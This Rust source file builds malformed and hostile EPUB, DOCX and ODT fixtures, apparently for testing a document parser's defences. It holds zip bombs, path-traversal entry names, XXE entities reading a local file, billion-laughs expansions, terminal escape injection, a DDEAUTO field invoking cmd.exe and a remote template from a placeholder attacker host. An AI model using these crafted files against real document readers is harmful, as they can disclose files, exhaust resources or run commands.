//! EPUB, DOCX and ODT files whose archives lie, explode, lead out or go in circles.

use std::io::{Cursor, Write as _};
use std::path::Path;

use zip::ZipWriter;
use zip::write::SimpleFileOptions;

use super::markup::laughs;
use super::{Item, PLAIN, Scale};

const FAMILY: &str = "archives";

const CONTAINER: &str = "<container version='1.0' xmlns='urn:oasis:names:tc:opendocument:xmlns:container'><rootfiles>\
    <rootfile full-path='book.opf' media-type='application/oebps-package+xml'/></rootfiles></container>";
const TYPES: &str = "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'>\
    <Default Extension='xml' ContentType='application/xml'/></Types>";
const WORDS: &str = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";

pub(super) fn items(outside: &Path, scale: Scale) -> Vec<Item> {
    let mut items = books(outside, scale);
    items.extend(documents(outside, scale));
    items.extend(broken());
    items
}

/// An archive of these parts.
fn archive(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in parts {
        let done = writer
            .start_file(*name, SimpleFileOptions::default())
            .and_then(|()| Ok(writer.write_all(bytes)?));
        done.expect("a part is written to memory");
    }
    writer
        .finish()
        .expect("an archive is written to memory")
        .into_inner()
}

fn package(items: &str, spine: &str, title: &str) -> String {
    format!(
        "<?xml version='1.0'?><package xmlns='http://www.idpf.org/2007/opf' version='3.0' unique-identifier='i'>\
         <metadata xmlns:dc='http://purl.org/dc/elements/1.1/'><dc:title>{title}</dc:title><dc:identifier id='i'>x</dc:identifier>\
         </metadata><manifest>{items}</manifest><spine>{spine}</spine></package>"
    )
}

fn chapter(body: &str) -> String {
    format!("<html xmlns='http://www.w3.org/1999/xhtml'><body><p>{PLAIN}</p>{body}</body></html>")
}

/// A book of one chapter and more parts.
fn book(name: &str, opf: &str, chapter: &str, more: &[(&str, &[u8])]) -> Item {
    let mut parts: Vec<(&str, &[u8])> = vec![
        ("mimetype", b"application/epub+zip"),
        ("META-INF/container.xml", CONTAINER.as_bytes()),
        ("book.opf", opf.as_bytes()),
        ("one.xhtml", chapter.as_bytes()),
    ];
    parts.extend(more);
    Item::file(FAMILY, format!("{name}.epub"), archive(&parts))
}

#[expect(clippy::too_many_lines, reason = "a table: one line for each item")]
fn books(outside: &Path, scale: Scale) -> Vec<Item> {
    let one = "<item id='a' href='one.xhtml' media-type='application/xhtml+xml'/>";
    let plain = package(one, "<itemref idref='a'/>", "Plain");
    let href = |href: &str| {
        package(
            &format!("{one}<item id='b' href='{href}' media-type='application/xhtml+xml'/>"),
            "<itemref idref='a'/><itemref idref='b'/>",
            "Leads out",
        )
    };
    let zeros = vec![b'x'; scale.of(400_000_000)];
    let secret = outside.display().to_string();
    let nested = archive(&[("inner.zip", &archive(&[("bomb", &vec![0; 1_000_000])]))]);
    let external = format!(
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file://{secret}'>]>{}",
        chapter("<p>&e;</p>")
    );
    let many: Vec<(String, &[u8])> = (0..scale.of(60_000))
        .map(|n| (format!("p{n}"), b"x".as_slice()))
        .collect();
    let many: Vec<(&str, &[u8])> = many
        .iter()
        .map(|(name, bytes)| (name.as_str(), *bytes))
        .collect();
    let spine = "<itemref idref='a'/>".repeat(scale.of(200_000));
    vec![
        book("plain", &plain, &chapter(""), &[]),
        book(
            "title-drives",
            &package(one, "<itemref idref='a'/>", "&#27;]0;evil&#7;\u{9b}66;6H"),
            &chapter("<p>&#27;[66;6H</p>"),
            &[],
        ),
        book(
            "href-up",
            &href("../../../../outside.txt"),
            &chapter(""),
            &[],
        ),
        book("href-absolute", &href(&secret), &chapter(""), &[]),
        book(
            "href-scheme",
            &href(&format!("file://{secret}")),
            &chapter(""),
            &[],
        ),
        book(
            "href-encoded",
            &href("%2e%2e/%2e%2e/outside.txt"),
            &chapter(""),
            &[],
        ),
        book(
            "href-network",
            &href("http://evil.example/x.xhtml"),
            &chapter(""),
            &[],
        ),
        book(
            "names-up",
            &plain,
            &chapter(""),
            &[
                ("../../evil.txt", b"x"),
                ("/evil.txt", b"x"),
                ("..\\evil.txt", b"x"),
                ("C:\\evil.txt", b"x"),
            ],
        ),
        book(
            "names-drive",
            &plain,
            &chapter(""),
            &[("\x1b]0;evil\x07", b"x"), ("nul\0name", b"x")],
        ),
        book(
            "bomb",
            &href("two.xhtml"),
            &chapter(""),
            &[("two.xhtml", &zeros)],
        ),
        book(
            "bomb-package",
            &plain,
            &chapter(""),
            &[("META-INF/encryption.xml", &zeros)],
        ),
        book(
            "nested-archives",
            &href("two.xhtml"),
            &chapter(""),
            &[("two.xhtml", &nested)],
        ),
        book("many-parts", &plain, &chapter(""), &many),
        book(
            "spine-again",
            &package(one, &spine, "Again"),
            &chapter(""),
            &[],
        ),
        book(
            "laughs",
            &plain,
            &format!("{}{}", laughs(), chapter("<p>&z;</p>")),
            &[],
        ),
        book(
            "laughs-package",
            &format!("{}{plain}", laughs()),
            &chapter(""),
            &[],
        ),
        book("entity", &plain, &external, &[]),
        book(
            "deep",
            &plain,
            &chapter(&"<div>".repeat(scale.of(400_000))),
            &[],
        ),
        book(
            "script",
            &plain,
            &chapter("<script>x</script><a href='javascript:x'>y</a>"),
            &[],
        ),
        book(
            "spine-of-nothing",
            &package(one, "<itemref idref='zzz'/>", "x"),
            &chapter(""),
            &[],
        ),
        Item::file(
            FAMILY,
            "container-circle.epub",
            archive(&[(
                "META-INF/container.xml",
                CONTAINER
                    .replace("book.opf", "META-INF/container.xml")
                    .as_bytes(),
            )]),
        ),
        Item::file(
            FAMILY,
            "no-container.epub",
            archive(&[("one.xhtml", chapter("").as_bytes())]),
        ),
        Item::file(FAMILY, "same-name-twice.epub", twice()),
    ]
}

/// Two parts of one name, which the writer would refuse: made by renaming in the bytes.
fn twice() -> Vec<u8> {
    let mut bytes = archive(&[
        ("META-INF/container.xml", CONTAINER.as_bytes()),
        ("META-INF/container.xmm", b"<container/>"),
    ]);
    let name = b"META-INF/container.xmm";
    for at in 0..bytes.len().saturating_sub(name.len()) {
        if bytes[at..].starts_with(name) {
            bytes[at + name.len() - 1] = b'l';
        }
    }
    bytes
}

/// A Word file whose body is this.
fn word(name: &str, body: &str, more: &[(&str, &[u8])]) -> Item {
    let text = format!(
        "<w:document xmlns:w='{WORDS}' xmlns:r='r'><w:body><w:p><w:r><w:t>{PLAIN}</w:t></w:r></w:p>{body}</w:body></w:document>"
    );
    word_of(name, &text, more)
}

fn word_of(name: &str, text: &str, more: &[(&str, &[u8])]) -> Item {
    let mut parts: Vec<(&str, &[u8])> = vec![
        ("[Content_Types].xml", TYPES.as_bytes()),
        ("word/document.xml", text.as_bytes()),
    ];
    parts.extend(more);
    Item::file(FAMILY, format!("{name}.docx"), archive(&parts))
}

fn documents(outside: &Path, scale: Scale) -> Vec<Item> {
    let deep = scale.of(200_000);
    let secret = outside.display();
    let links = format!(
        "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>\
         <Relationship Id='r1' Type='t/hyperlink' Target='file://{secret}' TargetMode='External'/>\
         <Relationship Id='r2' Type='t/attachedTemplate' Target='http://evil.example/t.dotm' TargetMode='External'/>\
         <Relationship Id='r3' Type='t/footnotes' Target='../../../../outside.txt'/></Relationships>"
    );
    let entity = format!(
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file://{secret}'>]><w:document xmlns:w='{WORDS}'><w:body><w:p><w:r><w:t>{PLAIN} &e;</w:t></w:r></w:p></w:body></w:document>"
    );
    let zeros = vec![b'x'; scale.of(400_000_000)];
    let office = |name: &str, body: String| {
        let text = format!(
            "<office:document-content xmlns:office='o' xmlns:text='t'><office:body><office:text><text:p>{PLAIN}</text:p>{body}</office:text></office:body></office:document-content>"
        );
        Item::file(
            FAMILY,
            format!("{name}.odt"),
            archive(&[
                ("mimetype", b"application/vnd.oasis.opendocument.text"),
                ("content.xml", text.as_bytes()),
            ]),
        )
    };
    vec![
        word("plain", "", &[]),
        word("drives", "<w:p><w:r><w:t>&#27;]0;evil&#7; \u{9b}66;6H</w:t></w:r></w:p>", &[]),
        word("relations", "<w:p><w:hyperlink r:id='r1'><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>", &[("word/_rels/document.xml.rels", links.as_bytes())]),
        word("field-code", "<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText></w:r></w:p>", &[]),
        word("macros", "", &[("word/vbaProject.bin", b"evil")]),
        word("deep-tables", &"<w:tbl><w:tr><w:tc>".repeat(deep / 4), &[]),
        word("deep-runs", &"<w:p><w:r>".repeat(deep / 2), &[]),
        word("notes-in-a-circle", "<w:p><w:r><w:footnoteReference w:id='1'/></w:r></w:p>", &[("word/footnotes.xml", format!("<w:footnotes xmlns:w='{WORDS}'><w:footnote w:id='1'><w:p><w:r><w:footnoteReference w:id='1'/><w:t>x</w:t></w:r></w:p></w:footnote></w:footnotes>").as_bytes())]),
        word("bomb", "", &[("word/footnotes.xml", &zeros)]),
        word("grid", "<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val='4294967295'/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>", &[]),
        word_of("entity", &entity, &[]),
        word_of("laughs", &format!("{}<w:document xmlns:w='{WORDS}'><w:body><w:p><w:r><w:t>&z;</w:t></w:r></w:p></w:body></w:document>", laughs()), &[]),
        word_of("cut-xml", &format!("<w:document xmlns:w='{WORDS}'><w:body><w:p><w:r><w:t>{PLAIN}"), &[]),
        office("plain", String::new()),
        office("drives", "<text:p>&#27;]0;evil&#7;</text:p>".into()),
        office("blanks", "<text:p>a<text:s text:c='4294967295'/>b</text:p>".into()),
        office("repeated-cells", "<table:table xmlns:table='b'><table:table-row table:number-rows-repeated='999999999'><table:table-cell table:number-columns-repeated='999999999'><text:p>x</text:p></table:table-cell></table:table-row></table:table>".into()),
        office("deep", "<text:list><text:list-item>".repeat(deep / 2)),
    ]
}

fn broken() -> Vec<Item> {
    let good = archive(&[
        ("[Content_Types].xml", TYPES.as_bytes()),
        ("word/document.xml", PLAIN.repeat(100).as_bytes()),
    ]);
    let cut = |at: usize| good.get(..at).unwrap_or(&good).to_vec();
    let mut huge = good.clone();
    // The size of the central directory, eight bytes behind the end record's signature.
    let end = huge.len() - 22;
    huge[end + 12..end + 20].fill(0xff);
    let mut encrypted = good.clone();
    encrypted[6] |= 1;
    let mut flipped = good.clone();
    for at in (0..flipped.len()).step_by(37) {
        flipped[at] ^= 0x10;
    }
    [
        ("cut-at-the-end.docx", cut(good.len() - 10)),
        ("cut-in-the-middle.epub", cut(good.len() / 2)),
        ("cut-at-the-start.odt", cut(3)),
        ("directory-beyond.docx", huge),
        ("encrypted.docx", encrypted),
        ("flipped.docx", flipped),
        (
            "only-an-end.epub",
            b"PK\x05\x06\0\0\0\0\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\0\0".to_vec(),
        ),
        ("text-called-book.epub", PLAIN.as_bytes().to_vec()),
        ("empty.docx", Vec::new()),
    ]
    .into_iter()
    .map(|(name, bytes)| Item::file(FAMILY, name, bytes))
    .collect()
}
